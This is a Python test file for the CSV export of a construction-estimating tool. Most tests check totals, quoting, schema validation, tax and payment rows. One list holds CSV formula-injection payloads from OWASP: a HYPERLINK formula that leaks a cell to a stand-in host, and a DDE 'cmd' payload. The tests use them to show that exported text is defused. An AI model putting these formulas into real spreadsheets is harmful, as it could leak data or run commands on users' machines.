"""The hand-off to the books: what it sums to, how other libraries read it, that no text of it is run, that it is known again."""

import csv
import datetime as dt
import hashlib
import io
import json
import re
import sqlite3
from contextlib import closing
from dataclasses import replace
from decimal import Decimal
from pathlib import Path

import export_demo as demo
import pandas as pd
import pytest
from frictionless import Package
from hypothesis import given, settings
from hypothesis import strategies as st

import kit
from kit.errors import PriceError
from kit.export.csv_text import restore_text
from kit.export.handoff import COLUMNS, TEXT_COLUMNS, control_totals, handoff_bytes, handoff_files, handoff_schema, read_handoff
from kit.export.handoff_rows import handoff_rows
from kit.export.papers import payments_of
from kit.issued import Issued, issue_estimate, list_issued, open_issued
from kit.job import change_job
from kit.money import round_cents
from kit.pricing.priced import work_order
from kit.records import CostType

NUMBERS = {"quantity", "unit_cost", "cost", "sell"}
# UN/ECE Recommendation 20, revision 12e/13e, as in the UBL 2.4 genericode list: code by unit (key unece-rec20).
PRINTED_CODES = {
    "each": "EA",
    "ft": "FOT",
    "sq ft": "FTK",
    "fl oz": "OZA",
    "gal": "GLL",
    "lb": "LBR",
    "h": "HUR",
    "hour": "HUR",
    "worker-hour": "LH",
    "day": "DAY",
    "one": "C62",
}
# First cells of the published list (OWASP, "CSV Injection", key owasp-csv-injection) and the ways around it that were reported.
HOSTILE = (
    '=1+2";=1+2',
    "=1+2'\" ;,=1+2",
    '=HYPERLINK("http://example.invalid?leak="&A1,"see here")',
    "=cmd|'/c x'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    " =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "'=1+1",
    'x",=1+1,"y',
    "-25.00",
)


def write_handoff(found: kit.Estimate, folder: Path) -> list[Path]:
    """The three files of an estimate written into a folder: rows, description, control totals."""
    for name, content in handoff_files(found, "rows").items():
        (folder / name).write_bytes(content)
    return [folder / f"rows{ending}" for ending in (".csv", ".datapackage.json", ".control.json")]


@pytest.mark.parametrize("name", demo.NAMES)
def test_pandas_reads_the_same_totals(tmp_path: Path, name: str) -> None:
    """Read back by pandas: as many rows, cost and price to the cent."""
    found = demo.estimate_of(name)
    path, _, control = write_handoff(found, tmp_path)
    told = json.loads(control.read_text(encoding="utf-8"))
    table = pd.read_csv(path, dtype={column: str for column in COLUMNS if column not in NUMBERS}, keep_default_na=False)
    assert tuple(table.columns) == COLUMNS
    assert len(table) == told["count"]
    assert round_cents(Decimal(repr(float(table["cost"].sum())))) == Decimal(told["sum_cost"]) == found.cost
    assert round_cents(Decimal(repr(float(table["sell"].sum())))) == Decimal(told["sum_sell"]) == found.price
    assert hashlib.sha256(path.read_bytes()).hexdigest() == told["file_sha256"]


@pytest.mark.parametrize("name", demo.NAMES)
def test_the_reference_library_finds_the_hand_off_sound_and_reads_the_same_totals(tmp_path: Path, name: str) -> None:
    """Descriptor, types, required cells, keys, size and fingerprint hold by the Data Package standard's own reader."""
    found = demo.estimate_of(name)
    _, package, control = write_handoff(found, tmp_path)
    report = Package(str(package)).validate()
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])[:5]
    rows = Package(str(package)).get_resource("rows").read_rows()
    told = json.loads(control.read_text(encoding="utf-8"))
    assert len(rows) == told["count"]
    assert (sum(row["cost"] for row in rows), sum(row["sell"] for row in rows)) == (found.cost, found.price)
    assert {type(row["taxable"]) for row in rows} == {bool}


def test_the_reference_library_notices_a_changed_file(tmp_path: Path) -> None:
    """The test above can fail: a figure that was changed, a row that is there twice."""
    path, package, _ = write_handoff(demo.example(demo.FIRST), tmp_path)
    lines = path.read_bytes().splitlines(keepends=True)
    path.write_bytes(b"".join([*lines, lines[1]]))
    kinds = {kind for (kind,) in Package(str(package)).validate().flatten(["type"])}
    assert {"hash-count", "byte-count", "primary-key"} <= kinds


def test_the_file_is_as_rfc_4180_says(tmp_path: Path) -> None:
    """Records end in CRLF, every field is quoted, inner quotes are doubled, as many fields in each record."""
    path, _, _ = write_handoff(demo.with_texts('A "quoted", name', "note"), tmp_path)
    content = path.read_bytes().decode()
    assert content.endswith("\r\n")
    assert not re.search(r"(?<!\r)\n", content)
    assert '"A ""quoted"", name"' in content
    records = list(csv.reader(io.StringIO(content, newline=""), strict=True))
    assert {len(record) for record in records} == {len(COLUMNS)}
    assert all(re.fullmatch(r'("(?:[^"]|"")*"(,|$))+', line) for line in content.split("\r\n")[:-1])


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_texts_stay_texts_in_the_csv(tmp_path: Path, text: str) -> None:
    """No field begins like a formula; taken back it is as it was. Of the workbook, tests/export/test_opening.py says so."""
    found = demo.with_texts(text, text)
    path, _, _ = write_handoff(found, tmp_path)
    with path.open(encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))
    for row in rows:
        for column in TEXT_COLUMNS:
            assert not row[column].lstrip().startswith(("=", "+", "-", "@", "＝")), (column, row[column])
    shown = " ".join(text.split())
    assert {restore_text(row["customer"]) for row in rows} == {shown}


def test_numbers_are_not_defused() -> None:
    """A credit of -25.00 stays a number."""
    rows = handoff_rows(demo.example(demo.FIRST))
    assert b'"-25.00"' in handoff_bytes([replace(rows[0], sell=Decimal("-25.00"))])


@settings(max_examples=40, deadline=None)
@given(st.text(st.characters(codec="utf-8"), min_size=1, max_size=40), st.text(st.characters(codec="utf-8"), max_size=20))
def test_what_was_written_reads_back(customer: str, note: str) -> None:
    """Whatever a customer is called: the rows read back are those that were written."""
    rows = handoff_rows(demo.with_texts(customer, note or "x"))
    assert read_handoff(handoff_bytes(rows)) == rows


@pytest.mark.parametrize("content", [b"", b"a,b\r\n1,2\r\n", "ä".encode("latin-1")])
def test_other_files_are_refused(content: bytes) -> None:
    """What is no hand-off says so."""
    with pytest.raises(PriceError, match="hand-off can't be read: "):
        read_handoff(content)


@pytest.mark.parametrize("name", demo.NAMES)
def test_columns_hold_what_the_lists_say(name: str) -> None:
    """Accounts by cost type, names and classes by cost code, the contractor form by supplier, tax codes by tax paid."""
    found = demo.estimate_of(name)
    lists = found.lists
    for row in handoff_rows(found):
        if row.line_id == "tax-collected":
            continue
        account = lists.accounts[CostType(row.cost_type)]
        assert (row.expense_account, row.income_account) == (account.expense_account, account.income_account)
        code = lists.cost_codes[row.cost_code]
        assert (row.cost_code_name, row.uniformat) == (code.name, code.uniformat or "")
        assert row.tax_words == lists.books["taxed" if row.taxable else "not-taxed"].entry
        assert row.contractor_form == (lists.suppliers[row.supplier].contractor_form if row.supplier else "no")
        assert (row.currency, row.status, row.revision) == ("USD", "draft", 0)
        assert row.unit_code in PRINTED_CODES.values()


def test_a_supplier_without_a_row_is_asked_about() -> None:
    """Nobody said whether the form is due: ask."""
    found = demo.example(demo.FIRST)
    bare = replace(found, lists=replace(found.lists, suppliers={}))
    assert {row.contractor_form for row in handoff_rows(bare) if row.supplier} == {"ask"}


def test_unit_codes_are_those_of_the_published_list() -> None:
    """Our units by their code; a pack counts as one, an hour of our own people as a labor hour."""
    with (Path(kit.__file__).parent / "export" / "unit_codes.csv").open(encoding="utf-8") as file:
        assert {row["unit"]: row["code"] for row in csv.DictReader(file)} == PRINTED_CODES
    rows = {row.line_id: row for row in handoff_rows(demo.example(demo.FIRST))}
    assert {row.unit_code for line_id, row in rows.items() if line_id.startswith("task:")} == {"LH"}
    assert {row.unit_code for row in rows.values() if row.unit.startswith(("box of", "96 in"))} == {"C62"}


def test_sales_tax_that_is_collected_is_owed() -> None:
    """It is no income: a row of its own on its liability account; the rest of the price is shared out over what it is made of."""
    found = kit.estimate(change_job(demo.example(demo.FIRST).job_as_read, {"terms.tax_on": "everything"}), demo.LISTS)
    collected = found.amount("tax-collected")
    assert collected > 0
    rows = {row.line_id: row for row in handoff_rows(found)}
    owed = rows.pop("tax-collected")
    assert (owed.income_account, owed.expense_account, owed.sell, owed.cost) == (found.lists.books["tax-liability"].entry, "", collected, 0)
    assert sum(row.sell for row in rows.values()) == found.amount("net") == found.price - collected


@pytest.mark.parametrize("name", demo.NAMES)
def test_rows_name_the_payment_before_which_their_step_is_done(name: str) -> None:
    """With the planned payments: each step's row has the first payment due with or after it, by its name in draws.csv; no deposit is a budget."""
    found = demo.estimate_of(name)
    payments, order = payments_of(found), work_order(found)
    rows = {row.line_id: row for row in handoff_rows(found)}
    later = [payment for payment in payments if payment.step in order]
    for task in found.tasks:
        hand_due = [payment.draw for payment in later if order.index(payment.step) >= order.index(task.step)]
        assert rows[f"task:{task.step}"].draw == (hand_due or [later[-1].draw])[0]
    assert (
        {row.draw for row in rows.values() if row.draw}
        <= {payment.draw for payment in payments if not payment.deposit}
        <= {one.draw for one in found.lists.draws}
    )
    assert sum(payment.amount for payment in payments) == found.price


def test_the_same_document_is_known_again(tmp_path: Path) -> None:
    """Handed over twice it has the same name, revision and fingerprint; the next revision has others."""
    found = demo.example(demo.FIRST)
    issue_estimate(found, tmp_path, today=dt.date(2026, 5, 5))
    issue_estimate(demo.other_terms(extra_trips=3), tmp_path, today=dt.date(2026, 5, 7))
    first, second = (open_issued(path) for path in list_issued(tmp_path, found.job.identity.job_number))
    rows = [handoff_rows(one.estimate, issued=one) for one in (first, first, second)]
    marks = [{(row.document, row.revision, row.date, row.status, row.fingerprint) for row in each} for each in rows]
    assert marks[0] == marks[1] == {(first.number, 1, dt.date(2026, 5, 5), "issued", f"sha256:{first.sha256[:16]}")}
    assert marks[2] == {(second.number, 2, dt.date(2026, 5, 7), "issued", f"sha256:{second.sha256[:16]}")}
    assert handoff_bytes(rows[0]) == handoff_bytes(rows[1])
    assert control_totals(rows[0])["fingerprint"] != control_totals(rows[2])["fingerprint"]
    assert [{row.replaces for row in each} for each in (rows[0], rows[2])] == [{""}, {first.document}]


def test_the_same_input_gives_the_same_files() -> None:
    """All three files, byte by byte, with the name that was asked for."""
    one, two = (handoff_files(demo.example(demo.FIRST), "books") for _ in range(2))
    assert one == two
    assert list(one) == ["books.csv", "books.datapackage.json", "books.control.json"]


def test_rows_that_do_not_sum_are_refused() -> None:
    """A build-up that was tampered with never reaches the books."""
    found = demo.example(demo.FIRST)
    with pytest.raises(PriceError, match="rows for the books sum to"):
        handoff_rows(replace(found, purchases=found.purchases[1:]))


def test_every_column_for_the_books_is_there() -> None:
    """What a bookkeeper needs to import without retyping, each in a column of its own with words that explain it."""
    hand_wanted = [
        "job",
        "customer",
        "document",
        "revision",
        "line_id",
        "kind",
        "replaces",
        "date",
        "cost_code",
        "cost_type",
        "income_account",
        "expense_account",
        "text",
        "quantity",
        "unit",
        "unit_cost",
        "cost",
        "sell",
        "taxable",
        "tax_words",
        "supplier",
        "contractor_form",
        "draw",
        "status",
        "unit_code",
        "uniformat",
    ]
    described = {field["name"]: field["description"] for field in handoff_schema()["fields"]}
    assert set(hand_wanted) <= set(COLUMNS) == set(described)
    assert all(described.values())


def test_a_second_import_is_refused_by_a_database_that_keeps_the_key(tmp_path: Path) -> None:
    """Document, revision and line are the key of the description: the same again is refused, the next revision is taken, and both are told apart."""
    found = demo.example(demo.FIRST)
    issue_estimate(found, tmp_path, today=dt.date(2026, 5, 5))
    issue_estimate(demo.other_terms(extra_trips=3), tmp_path, today=dt.date(2026, 5, 7))
    first, second = (open_issued(path) for path in list_issued(tmp_path, found.job.identity.job_number))
    key = handoff_schema()["primaryKey"]
    with closing(sqlite3.connect(":memory:")) as books:
        books.execute(f"CREATE TABLE rows ({', '.join(COLUMNS)}, PRIMARY KEY ({', '.join(key)}))")

        def take(issued: Issued) -> None:
            table = csv.reader(io.StringIO(handoff_bytes(handoff_rows(issued.estimate, issued=issued)).decode(), newline=""))
            with books:
                books.executemany(f"INSERT INTO rows VALUES ({', '.join('?' * len(COLUMNS))})", list(table)[1:])

        take(first)
        with pytest.raises(sqlite3.IntegrityError, match=r"UNIQUE constraint failed: rows\.document, rows\.revision, rows\.line_id"):
            take(first)
        take(second)
        sums = dict(books.execute("SELECT fingerprint, sum(sell) FROM rows GROUP BY fingerprint"))
    assert {name: round_cents(Decimal(repr(value))) for name, value in sums.items()} == {
        f"sha256:{issued.sha256[:16]}": issued.estimate.price for issued in (first, second)
    }


def test_a_row_names_its_pack_once():
    """A plumber by the hour is not by the hour, hour; a can keeps its size."""
    texts = {row.line_id: row.text for row in handoff_rows(demo.example("corner_dishwasher_drain_down"))}
    assert texts["buy:hire-plumber"] == "Plumber hired by the hour"
    assert texts["buy:cement-pvc"] == "PVC solvent cement, 8 fl oz can"
